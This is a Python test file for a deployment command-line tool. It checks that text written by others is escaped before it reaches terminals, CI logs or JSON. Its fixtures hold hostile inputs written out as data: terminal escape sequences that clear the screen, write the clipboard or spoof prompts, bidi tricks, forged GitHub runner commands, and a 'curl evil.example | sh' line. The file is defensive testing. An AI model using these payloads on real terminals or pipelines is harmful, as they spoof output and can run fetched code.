"""Text from others is only text: on a terminal, in a log, as JSON."""

from __future__ import annotations

import fcntl
import io
import json
import os
import pty
import re
import select
import signal
import struct
import subprocess
import sys
import termios
import unicodedata
import uuid
from collections.abc import Sequence
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scripts.command import failure, github, terminal
from scripts.command.record import Record
from scripts.command.tables import Table, plain_table, rich_table
from scripts.command.visible import visible
from scripts.errors import Failed
from tests.conftest import ROOT, LocalCloudRun
from tests.scripts.conftest import Project

HOSTILE = {
    "clear": "\x1b[2J\x1b[Hgone",
    "clipboard": "\x1b]52;c;Y3VybCB8IHNo\x07",
    "title": "\x1b]0;root@production\x1b\\",
    "c1": "\x9b2J\x9d52;c;eA==\x9c\x85next",
    "overwrite": "safe\rGo ahead? [y/N] y",
    "backspace": "no\x08\x08yes",
    "up": "\x1b[1A\x1b[2K\x1b[31;5mserving 100 %",
    "query": "\x1b[6n\x1b[c\x05",
    "bidi": "app\u202egnp.exe\u2066x\u2069\u200f",
    "separators": "one\u2028two\u2029three\x0bfour\x0cfive",
    "delete": "a\x7fb",
    "padding": f"safe{' ' * 80}Go ahead? [y/N] y",
}
MARKUP = "[/var/log] [link=https://evil.example]docs[/link] [red]x[/red] :smile: [/]"
GOOD = "Größe 北京 👩‍💻 🏴󠁧󠁢󠁥󠁮󠁧󠁿 é عربي नमस्ते"
EVERYTHING = " ".join([*HOSTILE.values(), MARKUP, GOOD])
FORGED = "\n  -> curl evil.example | sh\n::add-mask::100\n  ::stop-commands::x\n##[group]x"

FORGED_HINT = re.compile("^ {0,3}->", re.MULTILINE)
# What rich and ship itself write on a terminal: colors, and for live lines the cursor.
OURS = re.compile(r"\x1b\[(\d+(;\d+)*m|1A|2K|\?25[lh])|\r")


def obeyed(text: str) -> list[str]:
    """Return the characters of a text that a terminal would obey, or that turn text around."""
    turning = {"LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI"}
    return [
        c
        for c in text
        if (unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") and c not in "\t\n")
        or unicodedata.bidirectional(c) in turning
        or c in "\u061c\u200e\u200f"
    ]


# These survive the ways of a log and of a commit's subject, which break lines at some controls.
LOGGED = [HOSTILE[name] for name in ("clear", "clipboard", "title", "bidi", "up", "query")]

# Logs an entry of two lines, the second of which looks like an entry; answers /raw with raw text.
SERVER = r"""
print(json.dumps({"message": "one\n2026-01-01 forged"}), flush=True)

def respond(path):
    return 200, settings["health"] if path == "/raw" else body()
"""

one_worker = pytest.mark.xdist_group("hostile")  # its service is delivered once


class Screen:
    """What a command writes on a terminal of its own, wide enough that no line is broken."""

    def __init__(
        self, project: Project, *arguments: str, program: Sequence[str] = (str(ROOT / "scripts"),)
    ) -> None:
        self._master, slave = pty.openpty()
        fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 50, 4000, 0, 0))
        modes = termios.tcgetattr(slave)
        modes[3] &= ~termios.ECHO
        termios.tcsetattr(slave, termios.TCSANOW, modes)
        self.process = subprocess.Popen(
            [sys.executable, *program, *arguments],
            cwd=project.folder, stdin=slave, stdout=slave, stderr=slave, start_new_session=True,
            env={**os.environ, "SHIPWAY_ACTOR": "tester", "TERM": "xterm-256color",
                 "COLUMNS": "4000", "CI": "", "PYTHONPATH": str(ROOT)},
            # The terminal is the session's own: else Ctrl-C reaches no one.
            preexec_fn=lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 0),
        )  # fmt: skip
        os.close(slave)
        self._read = b""

    def until(self, word: bytes | None = None) -> None:
        """Read until a word is shown, or to the end."""
        while word is None or word not in self._read:
            if not select.select([self._master], [], [], 60)[0]:
                self.process.kill()
                raise AssertionError(f"it shows nothing more after {self._read.decode()}")
            try:
                self._read += os.read(self._master, 65536)
            except OSError:  # the command has ended
                break

    def type(self, text: str) -> None:
        os.write(self._master, text.encode())

    def end(self) -> tuple[int, str]:
        """Wait; return the exit code, and what was shown without ship's own colors."""
        self.until()
        os.close(self._master)
        return self.process.wait(timeout=60), OURS.sub("", self._read.decode())


def check(text: str, *parts: str) -> None:
    """All parts of a text from others are shown, and a terminal obeys none."""
    assert obeyed(text) == []
    for part in parts:
        assert visible(part) in text


@pytest.fixture(scope="module")
def hostile(local_cloud_run: LocalCloudRun, tmp_path_factory: pytest.TempPathFactory) -> Project:
    """A delivered service of which every text that others can write is hostile."""
    folder = tmp_path_factory.mktemp("hostile") / "repository"
    project = Project(folder, local_cloud_run, f"svc-{uuid.uuid4().hex[:8]}")
    project.serve_with(SERVER)
    path = project.pipeline / "local.yaml"
    path.write_text(path.read_text() + "confirm: true\n")
    (project.pipeline / "smoke.yaml").write_text("- path: /\n")
    project.commit(note=EVERYTHING, health=EVERYTHING)
    project.git("commit", "--quiet", "--amend", "--message", EVERYTHING)
    project.done("deliver", "--yes")
    service = project.service()
    at, why = "2026-01-01T00:00:00Z", EVERYTHING + FORGED
    event = {"at": at, "verb": "hold", "by": EVERYTHING, "revision": EVERYTHING, "why": why}
    hold = {"name": "hold", "at": at, "by": "them", "why": why}
    service["metadata"]["annotations"] |= {
        "shipway/hold": json.dumps(hold),
        "shipway/log": json.dumps([event]),
    }
    project.put(service)
    return project


@pytest.fixture(scope="module")
def small(local_cloud_run: LocalCloudRun, tmp_path_factory: pytest.TempPathFactory) -> Project:
    """A repository with one commit, for commands that are refused before they ask anything."""
    folder = tmp_path_factory.mktemp("small") / "repository"
    project = Project(folder, local_cloud_run, "svc")
    project.commit()
    return project


@one_worker
@pytest.mark.parametrize("words", [("status",), ("history", "--changes")], ids=" ".join)
def test_annotations_on_a_terminal(hostile: Project, words: tuple[str, ...]) -> None:
    code, text = Screen(hostile, *words).end()
    assert code == 0
    check(text, *HOSTILE.values(), MARKUP, GOOD)
    assert not FORGED_HINT.search(text), text


@one_worker
def test_the_live_table(hostile: Project) -> None:
    """A reason with brackets in it once left the screen blank."""
    screen = Screen(hostile, "status", "--watch")
    screen.until(b"next: ")
    screen.process.send_signal(signal.SIGINT)
    code, text = screen.end()
    assert code == 0
    check(text, *HOSTILE.values(), MARKUP, GOOD)


@one_worker
def test_log_lines_on_a_terminal(hostile: Project) -> None:
    code, text = Screen(hostile, "logs").end()
    assert code == 0
    check(text, *LOGGED, GOOD)
    assert re.search("^ +2026-01-01 forged", text, re.MULTILINE)


@one_worker
def test_log_lines_that_are_followed(hostile: Project) -> None:
    screen = Screen(hostile, "logs", "--follow")
    screen.until(b"forged")
    screen.process.send_signal(signal.SIGINT)
    code, text = screen.end()
    assert code == 0
    check(text, *LOGGED, GOOD)
    assert "one\n    2026-01-01 forged" in text


@one_worker
@pytest.mark.parametrize("words", [("status",), ("history", "--changes"), ("logs",)], ids=" ".join)
def test_the_log_of_a_job(hostile: Project, words: tuple[str, ...]) -> None:
    """No text is a command of GitHub's runner."""
    text = hostile.ship(*words, GITHUB_ACTIONS="true").stdout
    check(text, *LOGGED, GOOD)
    assert not re.search(r"^\s*::|##\[", text, re.MULTILINE), text
    assert not FORGED_HINT.search(text), text
    assert not re.search("^2026-01-01 forged", text, re.MULTILINE)


@one_worker
@pytest.mark.parametrize("words", [("status",), ("history", "--changes"), ("logs",)], ids=" ".join)
def test_json_means_the_text_itself(hostile: Project, words: tuple[str, ...]) -> None:
    text = hostile.ship(*words, "--format=json").stdout
    assert obeyed(text) == []
    values: list[Any] = [json.loads(text)]
    found = []
    while values:
        value = values.pop()
        if isinstance(value, dict | list):
            values += value.values() if isinstance(value, dict) else value
        else:
            found.append(value)
    assert any(EVERYTHING in value for value in found if isinstance(value, str))


@one_worker
def test_the_question_before_a_change(hostile: Project) -> None:
    """The subject of a commit forges neither the question nor its answer."""
    screen = Screen(hostile, "deliver")
    screen.until(b"[y/N] ")
    screen.type("n\n")
    code, text = screen.end()
    assert code == 3
    check(text, *LOGGED, GOOD)
    what, question = text[text.index("Deliver ") :].splitlines()[:2]
    assert question.startswith("Go ahead? [y/N] ")
    assert "  " not in what, "spaces could move it to a line of its own"


@one_worker
def test_a_hold_that_someone_else_put_on(hostile: Project) -> None:
    code, text = Screen(hostile, "hold", "--yes", "--name=mine").end()
    assert code == 3
    check(text, *HOSTILE.values(), MARKUP, GOOD)
    assert text.count("\n  -> ") == 1


@one_worker
def test_the_reason_of_a_hold(hostile: Project) -> None:
    before = hostile.service()["metadata"]["annotations"]
    hostile.done("resume", "--yes")
    reason = f"{HOSTILE['clear']} {HOSTILE['bidi']} {MARKUP} {GOOD}"
    code, text = Screen(hostile, "hold", "--yes", "--reason", reason).end()
    service = hostile.service()
    service["metadata"]["annotations"] |= before
    hostile.put(service)
    assert code == 0
    check(text, reason)


@one_worker
def test_an_answer_that_fails_a_check(hostile: Project) -> None:
    """The evidence of an error, and the progress before it."""
    smoke = "- path: /raw\n  expect:\n    text: fine\n"
    (hostile.pipeline / "smoke.yaml").write_text(smoke)
    hostile.commit()
    code, text = Screen(hostile, "deliver", "--yes", "--override", "hold").end()
    assert code == 1
    check(text, f"  | {HOSTILE['clear']}", HOSTILE["up"])


ARGUMENT = f"{HOSTILE['clear']}{HOSTILE['clipboard']}{HOSTILE['c1']}{HOSTILE['bidi']}{MARKUP}"


@pytest.mark.parametrize(
    "words",
    [
        [ARGUMENT],
        ["promote", f"--to={ARGUMENT}"],
        ["status", f"--{ARGUMENT}"],
        ["status", ARGUMENT],
        ["deliver", f"--commit={ARGUMENT}"],
        ["status", "--env", f"{ARGUMENT}\udcff"],
    ],
    ids=["verb", "value", "option", "service", "commit", "environment that is no UTF-8"],
)
def test_an_error_that_repeats_an_argument(small: Project, words: list[str]) -> None:
    code, text = Screen(small, *words).end()
    assert code == 2
    check(text, ARGUMENT)


@pytest.mark.parametrize(
    "words",
    [["x\n::add-mask::100"], ["promote", "--to=x\n  ::add-mask::100"], ["status", "##[group]x"]],
    ids=["verb", "value", "service"],
)
@pytest.mark.parametrize("format_", ["table", "json"])
def test_no_argument_is_a_command_of_a_runner(
    small: Project, words: list[str], format_: str
) -> None:
    ended = small.ship(*words, "--format", format_, GITHUB_ACTIONS="true")
    assert ended.returncode == 2
    commands = re.findall(r"^\s*::.*|.*##\[.*", ended.stdout + ended.stderr, re.MULTILINE)
    # The annotation is ship's own; in its data the runner looks for no command.
    assert [line for line in commands if not line.startswith("::error title=")] == []


PROGRESS = """
import sys
from scripts.command import terminal
from scripts.command.progress import Progress

terminal.guard()
progress = Progress()
with progress.step("build", sys.argv[1]) as step:
    step.say(sys.argv[1])
    progress.line(sys.argv[1])
    print(sys.argv[2], file=sys.stderr)
    print(sys.argv[2])
    step.done(sys.argv[1])
"""


def test_progress(small: Project) -> None:
    """What is printed beside a live line passes the filter, too."""
    code, text = Screen(small, EVERYTHING + FORGED, EVERYTHING, program=["-c", PROGRESS]).end()
    assert code == 0
    check(text, *HOSTILE.values(), MARKUP, GOOD)
    assert "\n✓ build" in text
    assert not FORGED_HINT.search(text), text


def test_no_line_of_an_error_passes_for_another(capsys: pytest.CaptureFixture[str]) -> None:
    error = Failed(f"message{FORGED}", f"hint{FORGED}", evidence=[f"e{FORGED}"])
    error.service_says = [f"s{FORGED}"]
    failure.show(error, Record(verb="deliver", root=ROOT))
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.startswith("  -> ")] == ["  -> hint"]
    assert len([line for line in lines if line.startswith("  | ")]) == 2 * len(FORGED.splitlines())
    assert all(line.startswith(("ship: ", "  | ", "  -> ", " " * 5)) for line in lines)


def test_a_traceback_that_was_asked_for(small: Project) -> None:
    code, text = Screen(small, "promote", "--debug", f"--to={ARGUMENT}").end()
    assert code == 2
    assert "Traceback" in text
    check(text, ARGUMENT)


CHARACTERS = "".join(map(chr, [*range(0x10000), *range(0xE0000, 0xE0200), *map(ord, "👩🏴")]))
TEXTS = st.text(
    st.one_of(st.characters(), st.sampled_from(obeyed(CHARACTERS)), st.sampled_from("\r\n\t :#["))
)


def test_each_character_is_obeyed_or_survives() -> None:
    made = visible(CHARACTERS)
    assert obeyed(made) == []
    assert set(made) == set(CHARACTERS) - set(obeyed(CHARACTERS))


@given(TEXTS)
def test_visible_text(text: str) -> None:
    made = visible(text)
    assert obeyed(made) == []
    assert visible(made) == made
    if not obeyed(text):
        assert made == text


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ("\x1b[2J", r"\x1b[2J"),
        ("a\x00b\x7f\x9b", r"a\x00b\x7f\x9b"),
        ("10 %\r20 %\r\n\tdone", "10 %\\r20 %\n\tdone"),
        ("\u202egnp", r"\u202egnp"),
        ("\udc80", r"\udc80"),
        (GOOD, GOOD),
    ],
)
def test_a_control_is_shown_as_its_escape(text: str, made: str) -> None:
    assert visible(text) == made


@given(TEXTS)
def test_no_text_is_a_command(text: str) -> None:
    made = github.inert(visible(text))
    assert not re.search(r"^\s*::|##\[", made, re.MULTILINE)


@given(TEXTS)
def test_a_json_document(text: str) -> None:
    document = github.json_text({"text": text})
    assert obeyed(document) == []
    assert json.loads(document) == {"text": text}


@given(TEXTS)
def test_a_console_shows_strings_as_text(text: str) -> None:
    """Whatever a caller hands to rich: a string, a styled part, a cell of a table."""
    output = io.StringIO()
    console = terminal.console(output)
    console.print(text, terminal.styled((text, "red"), text), markup=True, emoji=True)
    table = Table(columns=["WHY", "TEXT"], rows=[[text, text]], notes=[text])
    console.print(rich_table(table, 1000), soft_wrap=True)
    assert obeyed(output.getvalue()) == []
    assert obeyed(plain_table(table)) == []


def test_a_console_finds_no_markup() -> None:
    output = io.StringIO()
    console = terminal.console(output)
    console.width = 1000
    console.print(MARKUP, terminal.styled((MARKUP, "red")), markup=True, emoji=True)
    console.print(rich_table(Table(columns=["WHY"], rows=[[MARKUP]]), 1000))
    assert output.getvalue().count(MARKUP) == 3
